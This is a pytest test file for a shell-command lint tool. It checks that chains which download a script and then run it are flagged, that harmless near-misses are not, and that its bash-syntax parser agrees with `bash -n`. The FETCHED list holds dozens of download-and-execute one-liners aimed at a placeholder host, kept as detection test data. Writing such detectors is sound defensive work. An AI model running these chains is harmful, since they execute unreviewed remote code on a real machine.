"""Lint, sixth round (issue 14, class "Lint misses dangerous steps"): downloaded code run
through a file or an argument, and shell-syntax verdicts that disagreed with `bash -n`.
Lint only reads text: no chain here is ever run (bash only parses them, `bash -n`)."""

from __future__ import annotations

import shutil
import subprocess

import pytest

from forensics.lint import lint
from forensics_parsers.shell import parse_chain
from forensics_parsers.shell_fetch import run_file, written_files

SERVER = "python3 -m sglang.launch_server --model-path m --port 30000"

FETCHED = [
    # a file a download wrote, run later (the class's new member: the file)
    "curl -o x http://h/s.sh; bash x",
    "curl -sSo /tmp/i.sh https://h/i.sh && sh /tmp/i.sh",
    "curl -L https://h/i.sh -o i.sh; chmod +x i.sh; ./i.sh",
    "curl --output=x http://h; . x",
    "curl -o x http://h; source x",
    "curl -O http://h/run.sh; bash run.sh",
    "curl -fsSLO https://h/get.sh && sh ./get.sh",
    "wget -O x http://h/s; sh x",
    "wget -q http://h/s.sh && bash s.sh",
    "wget http://h/x -O x; chmod +x x; ./x",
    "wget -qO /tmp/x http://h; /tmp/x",
    "wget -O- http://h > x.sh; bash x.sh",
    "curl http://h > x.sh && bash x.sh",
    "curl -s http://h | tee x.sh; bash x.sh",
    "curl -o x.py http://h; python3 x.py",
    "curl -o /tmp/x http://h; chmod 755 /tmp/x; sudo /tmp/x",
    "aria2c -o x http://h; bash x",
    "cd /tmp && curl -o x http://h && nohup bash x &",
    # the download's output given as the code to run
    'python -c "$(curl -s http://h)"',
    'python3.11 -c "$(wget -qO- http://h)"',
    'sh -c "$(curl -fsSL http://h)"',
    'bash -c "$(curl http://h)"',
    'eval "$(curl -s http://h)"',
    "eval $(wget -qO- http://h)",
    'perl -e "$(curl -s http://h)"',
    'python3 -c "`curl -s http://h`"',
    'ssh gpu1 "bash -c \\"$(curl -s http://h)\\""',
    # read from stdin or a process substitution by an interpreter, not only a shell
    "source <(curl -s http://h)",
    "bash <(wget -qO- http://h)",
    "curl http://h | python3",
    "curl http://h | python3 -",
    "wget -qO- http://h | perl",
    "python3 <(curl -s http://h)",
]

CLEAN = [
    "curl -o model.bin http://h/m; ls -l model.bin",
    "curl -o x http://h; cat x",
    "curl -s http://h/health",
    "curl -s localhost:30000/get_server_info | python3 -m json.tool",
    "curl -s localhost:30000/get_server_info | python3 -mjson.tool",
    "curl -s localhost:30000/v1/models | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
    "bash run.sh",
    "curl -o /tmp/a.sh http://h; bash /opt/a.sh",
    "wget -O- http://h/file > /dev/null; bash setup.sh",
    "source <(conda shell.bash hook)",
]


@pytest.mark.parametrize("chain", FETCHED)
def test_downloaded_code_run_by_a_file_or_an_argument_is_flagged(chain):
    found = [f for f in lint(f"{chain}\n{SERVER}") if f.id == "runs-fetched-script"]
    assert found and found[0].severity == "error", chain
    assert "downloads" in found[0].explanation


@pytest.mark.parametrize("chain", CLEAN)
def test_near_misses_stay_clean(chain):
    assert "runs-fetched-script" not in {f.id for f in lint(f"{chain}\n{SERVER}")}, chain


def test_which_files_a_download_writes_and_which_a_command_runs():
    assert written_files(["curl", "-sSo", "a.sh", "http://h/x"]) == ["a.sh"]
    assert written_files(["curl", "-fsSLO", "http://h/dir/get.sh?x=1"]) == ["get.sh"]
    assert written_files(["curl", "http://h/x"]) == []  # to stdout
    assert written_files(["wget", "http://h/dir/x.sh"]) == ["x.sh"]
    assert written_files(["wget", "-O-", "http://h/x"]) == []
    assert written_files(["wget", "--output-document=y", "http://h/x"]) == ["y"]
    assert run_file(["bash", "-x", "s.sh"]) == "s.sh"
    assert run_file(["sudo", "./x"]) == "./x"
    assert run_file(["python3", "-m", "sglang.launch_server"]) is None
    assert run_file(["bash", "-c", "echo"]) is None


def test_a_replay_refuses_a_chain_that_runs_a_saved_download():
    found = [f for f in lint("curl -o x http://h; bash x") if f.id == "runs-fetched-script"]
    from forensics.lint import RULES

    rule = next(r for r in RULES if r.id == "runs-fetched-script")
    assert found and rule.replay == "refuse"


# (chain, whether bash refuses it): the shell-syntax disagreements this round found
SYNTAX = [
    ("function", True),
    ("function;", True),
    ("function && a", True),
    ("if function; then :; fi", True),
    ("function()", True),
    ("function g ;", True),
    ("f() ;", True),
    ("f() &", True),
    ("[[", True),
    ("[[ -f x", True),
    ("[[ -f x ]", True),
    ("a; [[ x == y", True),
    ("time [[ a", True),
    ("[[ a ]] && [[ b", True),
    ("]]", True),
    ("[[ a ]]; ]]", True),
    ("[[ a ]] b", True),
    ("[[ a ]] fi", True),
    ("time fi", True),
    ("time do", True),
    ("! do", True),
    ("! }", True),
    # valid: unchanged
    ("function f { :; }", False),
    ("function f() { :; }", False),
    ("echo function", False),
    ("echo [[", False),
    ("a ]]", False),
    ("[[ -f x ]]", False),
    ("x=1 [[ -f x", False),
    ("{ [[ a ]] }", False),
    ("( [[ a ]] )", False),
    ("[[ a ]] > f", False),
    ("[[ a ]] &", False),
    ("[[ a && b ]]", False),
    ("while [[ a ]]; do :; done", False),
    ("f() [[ a ]]", False),
    ("! function f { :; }", False),
    ("if [[ -n $x ]]; then echo y; fi", False),
]


@pytest.mark.parametrize(("chain", "refused"), SYNTAX)
def test_shell_syntax_agrees_with_bash(chain, refused):
    assert bool(parse_chain(chain).errors) is refused, (chain, parse_chain(chain).errors)
    if shutil.which("bash"):
        done = subprocess.run(["bash", "-n", "-c", "--", chain], capture_output=True)
        # bash -n reports an error inside `[[ … ]]` on stderr with exit status 0
        assert (done.returncode != 0 or bool(done.stderr.strip())) is refused, chain


def test_lint_reports_it_and_exits_1(tmp_path):
    from click.testing import CliRunner

    from forensics.cli import cli

    res = CliRunner().invoke(cli, ["lint", "--shell", f"[[ -f x; {SERVER}"])
    assert res.exit_code == 1 and "shell-syntax" in res.output
